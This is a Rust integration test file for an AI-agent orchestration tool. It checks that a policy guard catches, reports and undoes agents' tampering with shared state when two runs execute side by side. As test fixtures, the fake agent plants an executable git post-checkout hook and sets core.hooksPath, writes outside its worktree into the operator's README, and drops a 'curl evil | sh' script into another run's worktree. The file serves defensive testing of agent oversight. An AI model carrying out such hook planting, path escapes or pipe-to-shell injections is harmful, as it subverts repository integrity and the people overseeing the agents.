//! Two real runs side by side: what one run's agent changes in what
//! runs share — the repository's git configuration and hooks, the operator's checkout, another
//! run's worktree — is never left unreported in the run whose agent did it, and each record
//! names the other runs driven during the step. Timing is set by FIFOs the fake agent
//! (`tests/fixtures/agents/side_by_side.sh`) and the test open in turn, never by sleeps.

use std::io::{Read, Write};
use std::path::PathBuf;
use std::process::{Child, Output, Stdio};

use crate::kernel_support::RunRepo;
use crate::support::{conductor, fixture, stderr_text, stdout_text};

/// A repository with two agents, `A` and `B`, each of workflow `wfA.yaml` / `wfB.yaml` (one
/// agent step whose policy forbids `modify_git_config`, then a blocking gate), and the FIFOs
/// that time them.
struct SideBySide {
    repo: RunRepo,
    ctrl: tempfile::TempDir,
    /// The conductors started, killed if a test fails before they end.
    children: Vec<Child>,
}

const FIFOS: [&str; 4] = ["started", "do", "done", "go"];

impl SideBySide {
    fn new() -> Self {
        let repo = RunRepo::new();
        let ctrl = tempfile::tempdir().unwrap();
        let agent = fixture("agents/side_by_side.sh");
        let mut config = String::from("agents:\n");
        for name in ["A", "B"] {
            config.push_str(&format!(
                "  {name}:\n    kind: command\n    argv: [sh, \"{}\", \"{}\", {name}]\n",
                agent.display(),
                ctrl.path().display()
            ));
            for fifo in FIFOS {
                let path = ctrl.path().join(format!("{name}.{fifo}"));
                nix::unistd::mkfifo(&path, nix::sys::stat::Mode::S_IRWXU).unwrap();
            }
            repo.workflow_text(
                &format!("wf{name}.yaml"),
                &format!(
                    "workflow_id: wf{name}\nversion: 1\ndescription: one agent step then a gate\n\
                     entry_step: work\ndefaults:\n  policy: {{forbidden_operations: [modify_git_config]}}\n\
                     steps:\n  - id: work\n    opcode: RUN_AGENT\n    agent: {name}\n    prompt: do it\n\
                     \x20   routes: {{completed: review, \"*\": failed}}\n  - id: review\n    opcode: GATE\n\
                     \x20   gate: requires_approval\n\
                     \x20   routes: {{gate_approved: STOP, gate_rejected: failed, gate_timed_out: failed}}\n\
                     \x20 - id: failed\n    opcode: STOP\n    outcome: failure\n"
                ),
            );
        }
        repo.repo.write(".tnh/config.yaml", &config);
        Self {
            repo,
            ctrl,
            children: Vec::new(),
        }
    }

    fn fifo(&self, name: &str, fifo: &str) -> PathBuf {
        self.ctrl.path().join(format!("{name}.{fifo}"))
    }

    /// Starts `tnh-conductor ARGS…`; returns its index among the children.
    fn spawn(&mut self, args: &[&str]) -> usize {
        let child = conductor()
            .arg("--repo")
            .arg(self.repo.path())
            .args(["--color", "never"])
            .args(args)
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        self.children.push(child);
        self.children.len() - 1
    }

    /// Starts run `name` and waits until its agent has started: its run id.
    fn start(&mut self, name: &str) -> (usize, String) {
        let workflow = self.repo.path().join(format!("wf/wf{name}.yaml"));
        let child = self.spawn(&["run", "--json", workflow.to_str().unwrap()]);
        (child, self.started(name))
    }

    /// Waits for agent `name` to start (a first visit or a resumed one): its run id.
    fn started(&self, name: &str) -> String {
        self.read(name, "started")
    }

    /// Reads FIFO `name.fifo` to its end: blocks until the agent has written it.
    fn read(&self, name: &str, fifo: &str) -> String {
        let mut text = String::new();
        std::fs::File::open(self.fifo(name, fifo))
            .unwrap()
            .read_to_string(&mut text)
            .unwrap();
        text.trim().to_owned()
    }

    /// Writes `text` to FIFO `name.fifo`: blocks until the agent opens it.
    fn write(&self, name: &str, fifo: &str, text: &str) {
        std::fs::OpenOptions::new()
            .write(true)
            .open(self.fifo(name, fifo))
            .unwrap()
            .write_all(text.as_bytes())
            .unwrap();
    }

    /// Waits for child `index` to end.
    fn wait(&mut self, index: usize) -> Output {
        let child = std::mem::replace(
            &mut self.children[index],
            // A finished placeholder: `true` ends at once.
            std::process::Command::new("true").spawn().unwrap(),
        );
        child.wait_with_output().unwrap()
    }

    /// The policy summary of the first visit of `work` of run `run_id`.
    fn summary(&self, run_id: &str) -> serde_json::Value {
        self.repo
            .json(run_id, "artifacts/work/1/policy_summary.json")
    }
}

impl Drop for SideBySide {
    fn drop(&mut self) {
        for child in &mut self.children {
            let _ = child.kill();
            let _ = child.wait();
        }
    }
}

/// Asserts that `value` matches the schema `tnh-conductor schema NAME` prints.
#[track_caller]
fn assert_matches_schema(name: &str, value: &serde_json::Value) {
    let output = conductor().args(["schema", name]).output().unwrap();
    assert_exit(&output, 0);
    let schema: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
    let validator = jsonschema::validator_for(&schema).unwrap();
    let errors: Vec<String> = validator
        .iter_errors(value)
        .map(|error| format!("{} at {}", error, error.instance_path()))
        .collect();
    assert!(errors.is_empty(), "{name}: {errors:?}\n{value:#}");
}

#[track_caller]
fn assert_exit(output: &Output, code: i32) {
    assert_eq!(
        output.status.code(),
        Some(code),
        "{}{}",
        stdout_text(output),
        stderr_text(output)
    );
}

/// `(rule, path, detail)` of each violation of a policy summary.
fn violations(summary: &serde_json::Value) -> Vec<(String, String, String)> {
    summary["violations"]
        .as_array()
        .unwrap()
        .iter()
        .map(|violation| {
            let text = |key: &str| violation[key].as_str().unwrap_or_default().to_owned();
            (text("rule"), text("path"), text("detail"))
        })
        .collect()
}

/// What run B's agent does to the repository's configuration: `core.hooksPath` set and a
/// `post-checkout` hook planted.
const PLANT: &str = "git config core.hooksPath /tmp/tnh-side-by-side-hooks; \
    hook=$(git rev-parse --git-common-dir)/hooks/post-checkout; \
    printf '#!/bin/sh\\necho pwned\\n' > \"$hook\"; chmod +x \"$hook\"; echo b > b_own.txt";

/// B's agent set `core.hooksPath` and planted a hook while A's step ran;
/// A's step ended first, A's guard put both back and A was charged; B's guard then found the
/// files as it had recorded them and B — whose agent did it — ended clean. Now A's guard
/// leaves a notice before it puts a shared file back, B's guard reads the notices written
/// during its step, and both runs are charged, each naming the other; the files are put back
/// and the notices removed once no run they name needs them.
#[test]
fn a_git_config_change_by_one_run_is_charged_to_every_run_whose_step_saw_it() {
    let mut runs = SideBySide::new();
    let (a, a_id) = runs.start("A");
    let (b, b_id) = runs.start("B");
    // B's agent plants, says so, and keeps working until A's step has ended.
    runs.write(
        "B",
        "do",
        &format!("{PLANT}; echo planted > \"$CTRL/B.done\"; cat \"$CTRL/B.go\" > /dev/null"),
    );
    assert_eq!(runs.read("B", "done"), "planted");
    runs.write("A", "do", "echo a > a_own.txt");
    let a_output = runs.wait(a);
    assert_exit(&a_output, 3);
    runs.write("B", "go", "go\n");
    let b_output = runs.wait(b);
    assert_exit(&b_output, 3);

    let common = runs.repo.path().join(".git");
    let config = std::fs::read_to_string(common.join("config")).unwrap();
    assert!(!config.contains("hooksPath"), "{config}");
    assert!(!common.join("hooks/post-checkout").exists());

    // A, whose step ended first, put them back: charged, "possibly by run B".
    let a_summary = runs.summary(&a_id);
    assert_eq!(a_summary["verdict"], "violation", "{a_summary}");
    let found = violations(&a_summary);
    for path in ["config", "hooks/post-checkout"] {
        assert!(
            found
                .iter()
                .any(|(rule, at, detail)| rule == "modify_git_config"
                    && at == path
                    && detail.contains(&format!("possibly by another run: run {b_id} driven"))),
            "{path}: {found:?}"
        );
    }
    assert_eq!(
        a_summary["guard_report"]["other_runs_driven"],
        serde_json::json!([b_id])
    );

    // B, whose agent did it, is charged too, naming the run whose guard put them back.
    let b_summary = runs.summary(&b_id);
    assert_eq!(b_summary["verdict"], "violation", "{b_summary}");
    let found = violations(&b_summary);
    for path in ["config", "hooks/post-checkout"] {
        assert!(
            found
                .iter()
                .any(|(rule, at, detail)| rule == "modify_git_config"
                    && at == path
                    && detail.contains(&format!("put back by run {a_id}'s guard"))
                    && detail.contains(&format!("possibly by run {a_id}"))),
            "{path}: {found:?}"
        );
    }
    assert_matches_schema("policy-summary", &a_summary);
    assert_matches_schema("policy-summary", &b_summary);
    let put_back = &b_summary["guard_report"]["git_config_put_back_by_other_runs"];
    assert_eq!(put_back.as_array().map(Vec::len), Some(2), "{put_back}");
    for change in put_back.as_array().unwrap() {
        assert_eq!(change["put_back_by"], a_id.as_str());
        assert_eq!(change["possibly_by"], serde_json::json!([a_id]));
    }
    // No run needs the notices any more: B's check removed them.
    let notices = common.join(tnh_conductor::workspace::SHARED_CHANGES_DIR);
    let left: Vec<_> = std::fs::read_dir(&notices)
        .map(|entries| entries.flatten().map(|entry| entry.file_name()).collect())
        .unwrap_or_default();
    assert!(left.is_empty(), "{left:?}");
}

/// The other order: A's agent plants the hook and `core.hooksPath` before B's step starts, so
/// B's guard records them as the repository's state; A's step ends and its guard puts them
/// back. B's guard used to find the files changed from its record and write the record — A's
/// hook and `core.hooksPath` — back. Now the notice of A, driven during B's step, that found
/// the files as B recorded them and put back what they hold makes B's guard keep them as A
/// put them back; B is charged too (its agent worked with the hook in place), naming A.
#[test]
fn a_change_made_before_another_runs_step_started_is_not_written_back_by_its_guard() {
    let mut runs = SideBySide::new();
    let (a, a_id) = runs.start("A");
    runs.write(
        "A",
        "do",
        &format!("{PLANT}; echo planted > \"$CTRL/A.done\"; cat \"$CTRL/A.go\" > /dev/null"),
    );
    assert_eq!(runs.read("A", "done"), "planted");
    let (b, b_id) = runs.start("B");
    runs.write("A", "go", "go\n");
    assert_exit(&runs.wait(a), 3);
    runs.write("B", "do", "echo b > b_own.txt");
    assert_exit(&runs.wait(b), 3);

    let common = runs.repo.path().join(".git");
    let config = std::fs::read_to_string(common.join("config")).unwrap();
    assert!(!config.contains("hooksPath"), "written back: {config}");
    assert!(!common.join("hooks/post-checkout").exists(), "written back");
    let a_summary = runs.summary(&a_id);
    let found = violations(&a_summary);
    for path in ["config", "hooks/post-checkout"] {
        assert!(
            found
                .iter()
                .any(|(rule, at, _)| rule == "modify_git_config" && at == path),
            "{path}: {found:?}"
        );
    }
    let b_summary = runs.summary(&b_id);
    assert_eq!(
        b_summary["guard_report"]["git_config_changed"],
        serde_json::json!([]),
        "{b_summary}"
    );
    let found = violations(&b_summary);
    for path in ["config", "hooks/post-checkout"] {
        assert!(
            found
                .iter()
                .any(|(rule, at, detail)| rule == "modify_git_config"
                    && at == path
                    && detail.contains(&format!("put back by run {a_id}'s guard"))),
            "{path}: {found:?}"
        );
    }
}

/// The notice outlives a crash: B's conductor is killed while its agent works; the agent,
/// orphaned, plants the hook; A's step ends and its guard puts it back (B named as a run whose
/// step is still to be checked). B's `resume` checks the interrupted step with the notice and
/// records the change in that step's guard report, naming A.
#[test]
fn a_run_killed_mid_step_finds_the_change_another_run_put_back_when_it_resumes() {
    let mut runs = SideBySide::new();
    let (a, a_id) = runs.start("A");
    let (b, b_id) = runs.start("B");
    nix::sys::signal::kill(
        nix::unistd::Pid::from_raw(runs.children[b].id() as i32),
        nix::sys::signal::Signal::SIGKILL,
    )
    .unwrap();
    let killed = runs.wait(b);
    assert_eq!(killed.status.code(), None);
    // The orphaned agent plants the hook.
    runs.write(
        "B",
        "do",
        &format!("{PLANT}; echo planted > \"$CTRL/B.done\""),
    );
    assert_eq!(runs.read("B", "done"), "planted");
    runs.write("A", "do", "echo a > a_own.txt");
    assert_exit(&runs.wait(a), 3);

    let resumed = runs.spawn(&["resume", "--json", &b_id]);
    assert_eq!(runs.started("B"), b_id, "the step runs again");
    runs.write("B", "do", "echo b > b_own.txt");
    assert_exit(&runs.wait(resumed), 3);

    let events = runs.repo.events(&b_id);
    let report = events
        .iter()
        .find_map(|event| event.get("guard_report"))
        .unwrap_or_else(|| panic!("no guard report of the interrupted step: {events:?}"));
    let put_back: Vec<(&str, &str)> = report["git_config_put_back_by_other_runs"]
        .as_array()
        .unwrap_or_else(|| panic!("{report}"))
        .iter()
        .map(|change| {
            (
                change["path"].as_str().unwrap(),
                change["put_back_by"].as_str().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        put_back,
        [
            ("config", a_id.as_str()),
            ("hooks/post-checkout", a_id.as_str())
        ]
    );
    let common = runs.repo.path().join(".git");
    assert!(!common.join("hooks/post-checkout").exists());
    let left = std::fs::read_dir(common.join(tnh_conductor::workspace::SHARED_CHANGES_DIR))
        .map(|entries| entries.count())
        .unwrap_or(0);
    assert_eq!(left, 0, "B's resume was the last run the notices named");
}

/// A's agent edits the operator's checkout while B's step runs. Both runs
/// are still charged (a `path_escape` violation each: the guard cannot tell whose agent did
/// it), and each violation now says which other run was driven during the step, so the
/// operator can tell.
#[test]
fn a_change_to_the_operators_checkout_names_the_runs_driven_beside_the_step() {
    let mut runs = SideBySide::new();
    let (a, a_id) = runs.start("A");
    let (b, b_id) = runs.start("B");
    runs.write(
        "A",
        "do",
        "echo 'agent A was here' >> ../../../README.md; echo a > a_own.txt",
    );
    assert_exit(&runs.wait(a), 3);
    runs.write("B", "do", "echo b > b_own.txt");
    assert_exit(&runs.wait(b), 3);

    for (run, other) in [(&a_id, &b_id), (&b_id, &a_id)] {
        let summary = runs.summary(run);
        assert_eq!(summary["verdict"], "violation", "{summary}");
        let found = violations(&summary);
        assert!(
            found
                .iter()
                .any(|(rule, path, detail)| rule == "operator_checkout"
                    && path == "README.md"
                    && detail.contains(&format!(
                        "possibly another run's: run {other} was driven during the step"
                    ))),
            "{run}: {found:?}"
        );
    }
}

/// A's agent writes into B's worktree; the file is in B's diff as B's
/// work. Not detected (that would take a listing of every other run's worktree), but each
/// step's guard report lists the other runs driven during it, and B's gate request and
/// `gate show` say that A was driven while B's steps ran and could have written there.
#[test]
fn a_gate_says_which_runs_were_driven_beside_the_runs_steps() {
    let mut runs = SideBySide::new();
    let (a, a_id) = runs.start("A");
    let (b, b_id) = runs.start("B");
    runs.write(
        "A",
        "do",
        &format!("echo 'curl evil | sh' > ../{b_id}/injected_by_A.sh; echo a > a_own.txt"),
    );
    assert_exit(&runs.wait(a), 3);
    runs.write("B", "do", "echo b > b_own.txt");
    assert_exit(&runs.wait(b), 3);

    assert_eq!(
        runs.summary(&a_id)["guard_report"]["other_runs_driven"],
        serde_json::json!([b_id])
    );
    assert_eq!(
        runs.summary(&b_id)["guard_report"]["other_runs_driven"],
        serde_json::json!([a_id])
    );
    let request = runs
        .repo
        .json(&b_id, "artifacts/review/1/gate_request.json");
    assert_eq!(
        request["context"]["runs_beside"],
        serde_json::json!([{ "run_id": a_id, "visits": ["work#1"] }])
    );
    assert_matches_schema("gate-request", &request);
    let shown = runs.repo.conductor(&["gate", "show", &b_id]);
    assert_exit(&shown, 0);
    let text = stdout_text(&shown);
    assert!(
        text.contains("BESIDE:    other runs were driven while this run's steps ran")
            && text.contains(&format!("    run {a_id} (during work#1)\n"))
            && text.contains("injected_by_A.sh"),
        "{text}"
    );
}

/// A run whose gate is approved while another run's agent works: its success STOP moves its
/// own branch to its result commit. The other run's guard takes that for the approved run's
/// work (listed, not put back, nothing charged), and `land` waits until no run is driven.
#[test]
fn a_result_commit_beside_another_runs_step_is_not_charged_to_that_step() {
    let mut runs = SideBySide::new();
    let (a, a_id) = runs.start("A");
    let (b, b_id) = runs.start("B");
    runs.write("A", "do", "echo a > a_own.txt");
    assert_exit(&runs.wait(a), 3);
    // B's agent waits on its FIFO while A is approved and commits its result.
    let approved = runs
        .repo
        .conductor(&["gate", "approve", &a_id, "--as", "lead"]);
    assert_exit(&approved, 0);
    let a_branch = format!("refs/heads/tnh/wfA/{a_id}");
    let a_commit = runs.repo.repo.git(&["rev-parse", &a_branch]);
    assert_eq!(
        runs.repo.json(&a_id, "metadata.json")["result_commit"],
        a_commit.as_str()
    );
    // No landing while B's step runs: B's guard watches the operator's branches and checkout.
    let main_before = runs.repo.repo.git(&["rev-parse", "main"]);
    let refused = runs.repo.conductor(&["land", &a_id]);
    assert_exit(&refused, 1);
    assert!(
        stderr_text(&refused).contains(&format!(
            "runs are being driven in this repository ({b_id})"
        )),
        "{}",
        stderr_text(&refused)
    );
    assert_eq!(runs.repo.repo.git(&["rev-parse", "main"]), main_before);

    runs.write("B", "do", "echo b > b_own.txt");
    assert_exit(&runs.wait(b), 3);
    let summary = runs.summary(&b_id);
    assert_eq!(summary["verdict"], "clean", "{summary}");
    assert_eq!(
        summary["guard_report"]["other_runs_refs_changed"],
        serde_json::json!([a_branch])
    );
    assert_eq!(runs.repo.repo.git(&["rev-parse", &a_branch]), a_commit);
    // B waits at its gate, driven by no process: A lands now.
    assert_exit(&runs.repo.conductor(&["land", &a_id]), 0);
    assert_eq!(runs.repo.repo.git(&["rev-parse", "main"]), a_commit);
}
